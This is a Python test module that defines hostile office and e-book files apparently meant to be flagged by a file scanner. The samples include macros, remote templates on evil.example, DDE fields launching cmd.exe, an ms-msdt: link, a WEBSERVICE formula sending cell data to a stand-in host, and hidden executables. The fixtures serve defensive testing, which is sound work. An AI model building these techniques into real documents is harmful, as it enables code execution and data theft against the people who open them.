# ruff: noqa: E501  (one row a case)
"""Attacks by office files and books: macros, what asks elsewhere when it is opened, what is embedded, passwords."""

from tests import office_files as o
from tests.hostile.attacks import Attack

_MACROS = "it carries macros, which are programs"
_DDE = "it starts other programs, or asks them for something (DDE)"
_OPENED = "it asks for something elsewhere when it is opened"
_READ = "it asks for something elsewhere when it is read"
_SCRIPTS = "it holds scripts, which are programs"
_LOCKED = "it is locked by a password"
_ELSEWHERE = "https://evil.example/x"
_VBA = o.compound({"PROJECT": b"x", "dir": b"x"}, ("VBA",))
_PACKAGED = o.compound({"\x01Ole10Native": b"\0\0\0\0evil.exe"})
_LINKED = o.compound({"\x01Ole": b"\1\0\0\2\1\0\0\0"})


def given(name: str, content: bytes, says: str) -> Attack:
    """Offer a file; the first word of the attack's name is its ending."""
    file = f"a.{name.partition('-')[0]}"
    return Attack(name, f"[A file]({file})", f"4: link: '{file}': {says}", files={file: content})


def _leads(name: str, kind: str, target: str, says: str) -> Attack:
    return given(name, o.docx(leads=o.relationships((kind, target))), says)


def _field(*pieces: str) -> bytes:
    """Write a field whose instruction is parted as Word parts it."""
    said = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    ends = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"<w:p>{ends.format('begin')}{said}{ends.format('separate')}{ends.format('end')}</w:p>".encode()


def _part(name: str, content: bytes, says: str, place: str) -> Attack:
    """A Word file with one more part."""
    return given(name, o.docx(more={place: content}), says)


def _type(kind: str) -> str:
    return f'<Override PartName="/word/x.bin" ContentType="application/{kind}"/>'


WORD: tuple[Attack, ...] = (
    _part("docx-macros", b"x", _MACROS, "word/vbaProject.bin"),
    _part("docx-macros-by-another-name", _VBA, f"{_MACROS.replace(', which', ' in x.dat, which')}", "customXml/x.dat"),
    given("docx-macro-type", o.docx(types=_type("vnd.ms-word.document.macroEnabled.main+xml")), _MACROS),
    _leads("docx-template", "attachedTemplate", f"{_ELSEWHERE}.dotm", f"{_OPENED} (attachedTemplate)"),
    _leads("docx-template-of-a-server", "attachedTemplate", r"\\evil\share\x.dotm", f"{_OPENED} (attachedTemplate)"),
    _leads("docx-template-by-file", "attachedTemplate", "file://evil/share/x.dotm", f"{_OPENED} (attachedTemplate)"),
    _leads("docx-template-by-signs", "attachedTemplate", "file:///%5c%5cevil%5cx.dotm", f"{_OPENED} (attachedTemplate)"),
    _leads("docx-picture-elsewhere", "image", f"{_ELSEWHERE}.png", f"{_OPENED} (image)"),
    _leads("docx-frame", "frame", f"{_ELSEWHERE}.htm", f"{_OPENED} (frame)"),
    _leads("docx-object-linked", "oleObject", r"file:///C:\Windows\System32\calc.exe", "it shows what lies in another file"),
    _leads("docx-link-runs", "hyperlink", "java&#115;cript:boom()", "it links to 'javascript:', which can run a program"),
    _leads("docx-link-to-protocol", "hyperlink", "ms-msdt:/id PCWDiagnostic", "it links to 'ms-msdt:', which can run a program"),
    given("docx-active-x", o.docx(leads=o.relationships(("activeXControlBinary", "x.bin"), mode="Internal")), "it holds ActiveX controls"),
    given("docx-add-in", o.docx(types=_type("vnd.ms-office.webextension+xml")), "it holds an add-in"),
    given("docx-other-format", o.docx(leads=o.relationships(("aFChunk", "x.rtf"), mode="Internal")), "it holds a part in another format"),
    _part("docx-embeds", _PACKAGED, "it encloses a file of any kind in oleObject1.bin", "word/embeddings/oleObject1.bin"),
    _part("docx-embeds-link", _LINKED, "it shows what lies in another file in oleObject1.bin", "word/embeddings/oleObject1.bin"),
    _part("docx-encloses", b"boom", "it encloses a file (a.hta)", "word/embeddings/a.hta"),
    _part("docx-encloses-program", b"MZ\x90\0", "it encloses a file (image1.png)", "word/media/image1.png"),
    _part("docx-encloses-zip", o.zipped({"a.exe": b"MZ"}), "it encloses a file (a.dat)", "word/a.dat"),
    _part("docx-encloses-workbook", o.xlsx(types=_type("vnd.ms-office.vbaProject")), f"'a.xlsx' in it: {_MACROS}", "word/embeddings/a.xlsx"),
    given("docx-dde", o.docx(_field(" DDEA", r"UTO c:\\windows\\system32\\cmd.exe ", '"/k calc"')), _DDE),
    given("docx-dde-simple", o.docx(b'<w:p><w:fldSimple w:instr=" &#68;DE cmd calc"/></w:p>'), _DDE),
    given("docx-dde-in-numbers", o.docx(_field("QUOTE 68 68 69 65")), "it holds a field that spells another in numbers"),
    given("docx-dde-in-numbers-within", o.docx(_field("IF 1 = 1 ", "QUOTE 68 68 69")), "it holds a field that spells another"),
    given("docx-field-fetches", o.docx(_field(r'INCLUDEPICTURE "\\\\evil\\x.png" \d')), "it asks for something elsewhere (INCLUDEPICTURE)"),
    _part("docx-field-in-footer", b"<w:ftr " + o.W + b">" + _field("DDE cmd") + b"</w:ftr>", _DDE, "word/footer1.xml"),
    _part("docx-drawing-asks", b'<x xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="//evil/x"/></x>', f"{_OPENED} (imagedata)", "word/x.xml"),
    _part("docx-entities", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "word/x.xml in it declares entities", "word/x.xml"),
    _part("docx-entities-utf-16", '<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16"), "word/x.xml in it declares entities", "word/x.xml"),
    _part("docx-unsound", b"<a><b></a>", "it is damaged: word/x.xml is no XML", "word/x.xml"),
    _part("docx-too-deep", b"<a>" * 5000 + b"</a>" * 5000, "it is damaged: word/x.xml is no XML, or nested too deep", "word/x.xml"),
    _part("docx-climbs-out", b"x", "'word/../../x' in it can lead out of the folder", "word/../../x"),
    given("docx-locked", o.compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), _LOCKED),
    given("docx-is-a-workbook", o.xlsx(), "it is called .docx, but is none"),
    given("doc-of-word-with-macros", o.docx(types=_type("vnd.ms-office.vbaProject")), _MACROS),
)  # fmt: skip


def _sheet(name: str, written: bytes, says: str) -> Attack:
    return given(name, o.xlsx(b'<c r="A1"><f>' + written + b"</f></c>"), says)


_LINK = b"<externalLink " + o.S + b'><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
_MACROSHEET = _type("vnd.ms-excel.macrosheet+xml")
TABLES: tuple[Attack, ...] = (
    given("xlsx-dde", o.xlsx(more={"xl/externalLinks/externalLink1.xml": _LINK}), _DDE),
    _sheet("xlsx-dde-formula", b"cmd|'/c calc'!A0", _DDE),
    _sheet("xlsx-asks-by-formula", b'_xlfn.WEBSER&#86;ICE("https://evil.example/?"&amp;A1)', "it asks for something elsewhere by a formula (WEBSERVICE)"),
    _sheet("xlsx-picture-by-formula", b'<![CDATA[_xlfn.IMAGE ("https://evil.example")]]>', "it asks for something elsewhere by a formula (IMAGE)"),
    given("xlsx-macro-sheet", o.xlsx(types=_MACROSHEET), _MACROS),
    given("xlsx-fetches", o.xlsx(more={"xl/connections.xml": b"<connections " + o.S + b'><connection id="1" refreshOnLoad="1"/></connections>'}), "it fetches data when it is opened"),
    given("xlsx-workbook-elsewhere", o.xlsx(more={"xl/externalLinks/_rels/e.xml.rels": o.relationships(("externalLinkPath", f"{_ELSEWHERE}.xlsx"))}), f"{_OPENED} (externalLinkPath)"),
    given("xls-of-excel-with-macros", o.xlsx(types=_MACROSHEET), _MACROS),
    given("pptx-film-elsewhere", o.pptx({"ppt/slides/_rels/slide1.xml.rels": o.relationships(("video", _ELSEWHERE))}), f"{_OPENED} (video)"),
    given("pptx-starts-program", o.pptx(shapes=b'<a:hlinkClick xmlns:a="b" action="ppaction://program"/>'), _DDE),
)  # fmt: skip


def _linked(element: str, target: str = _ELSEWHERE) -> bytes:
    return f'<{element} xlink:href="{target}"/>'.encode()


_ENCRYPTED = b'<manifest><file-entry full-path="content.xml"><encryption-data checksum="x"/></file-entry></manifest>'
OPENDOCUMENT: tuple[Attack, ...] = (
    given("odt-basic", o.odt(more={"Basic/Standard/Module1.xml": b"<a/>"}), _MACROS),
    given("odt-scripts", o.odt(more={"Scripts/python/a.py": b"boom()"}), _MACROS),
    given("odt-script-within", o.odt(before=b"<office:scripts><office:script>Sub a</office:script></office:scripts>"), _MACROS),
    given("odt-event", o.odt(before=b"<office:scripts>" + _linked("script:event-listener", "vnd.sun.star.script:a") + b"</office:scripts>"), _MACROS),
    given("odt-picture-elsewhere", o.odt(_linked("draw:image")), f"{_OPENED} (image)"),
    given("odt-section-elsewhere", o.odt(_linked("text:section-source", "//evil/x.odt")), f"{_OPENED} (section-source)"),
    given("odt-frame", o.odt(_linked("draw:floating-frame")), f"{_OPENED} (floating-frame)"),
    given("odt-reloads", o.odt(more={"meta.xml": b"<m xmlns:xlink='http://www.w3.org/1999/xlink'>" + _linked("auto-reload") + b"</m>"}), f"{_OPENED} (auto-reload)"),
    given("odt-link-runs", o.odt(_linked("text:a", "vnd.sun.star.script:x")), "it links to"),
    given("odt-dde", o.odt(b'<office:dde-source office:dde-application="cmd"/>'), _DDE),
    given("odt-plugin", o.odt(_linked("draw:plugin", "a")), "it holds a program (plugin)"),
    given("odt-applet", o.odt(_linked("draw:applet", "a")), "it holds a program (applet)"),
    given("odt-embeds", o.odt(more={"Object 1": _PACKAGED}), "it encloses a file of any kind in Object 1"),
    given("odt-encloses", o.odt(more={"a": b"MZ\x90\0"}), "it encloses a file (a)"),
    given("odt-locked", o.odt(more={"META-INF/manifest.xml": _ENCRYPTED}), _LOCKED),
    given("odt-is-a-table", o.opendocument("spreadsheet", b""), "it is called .odt, but is none"),
    given("ods-asks-by-formula", o.opendocument("spreadsheet", b"<table:table-cell table:formula='of:=WEBSERVICE([.A1])'/>"), "it asks for something elsewhere by a formula (WEBSERVICE)"),
    given("odp-starts-program", o.opendocument("presentation", b"<presentation:event-listener presentation:action='execute' xlink:href='a.exe'/>"), _MACROS),
)  # fmt: skip

_FETCHED = "<encryption><EncryptedData><EncryptionMethod Algorithm='http://www.w3.org/2001/04/xmlenc#aes128-cbc'/></EncryptedData></encryption>"
_LATE = {"a": b"x", "mimetype": b"application/epub+zip", "META-INF/container.xml": b"<a/>"}
BOOKS: tuple[Attack, ...] = (
    given("epub-script", o.epub(b"<script>boom()</script>"), _SCRIPTS),
    given("epub-script-unsound", o.epub(b"<p><script >boom()"), _SCRIPTS),
    given("epub-handler", o.epub(b'<p onclick="boom()">A</p>'), _SCRIPTS),
    given("epub-program", o.epub(more={"a.js": b"boom()"}), "it holds a program (a.js)"),
    given("epub-link-runs", o.epub(b'<a href="java&#10;script:boom()">A</a>'), "it links to 'javascript:'"),
    given("epub-picture-elsewhere", o.epub(b'<img src="https://evil.example/x.png" alt=""/>'), f"{_READ} (img)"),
    given("epub-pictures-elsewhere", o.epub(b'<img src="a.png" srcset="a.png 1x, //evil.example/x.png 2x" alt=""/>'), f"{_READ} (img)"),
    given("epub-drawing-elsewhere", o.epub(b'<svg><image x:href="https://evil.example/x.png"/></svg>'), f"{_READ} (image)"),
    given("epub-style-elsewhere", o.epub(head=b'<link rel="stylesheet" href="https://evil.example/x.css"/>'), f"{_READ} (link)"),
    given("epub-sheet-elsewhere", o.epub(more={"a.css": b"@import/**/ 'https://evil.example/x.css';"}), f"{_READ} (style)"),
    given("epub-leads-on", o.epub(head=b'<meta http-equiv="Refresh" content="0"/>'), "a page of it leads elsewhere by itself"),
    given("epub-says-scripted", o.epub(more={"b.opf": b'<package><item href="a" properties="nav scripted"/></package>'}), "it says that it holds scripts"),
    given("epub-entities", o.epub(more={"b.xhtml": b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}), "b.xhtml in it declares entities"),
    given("epub-locked", o.epub(more={"META-INF/encryption.xml": _FETCHED.encode()}), "it is locked, for one shop or one reader"),
    given("epub-mimetype-late", o.zipped(_LATE), "its file 'mimetype' is not the first"),
    given("epub-is-a-zip", o.zipped({"a.txt": b"x"}), "it is called .epub, but is none"),
)  # fmt: skip
EVERY = (*WORD, *TABLES, *OPENDOCUMENT, *BOOKS)
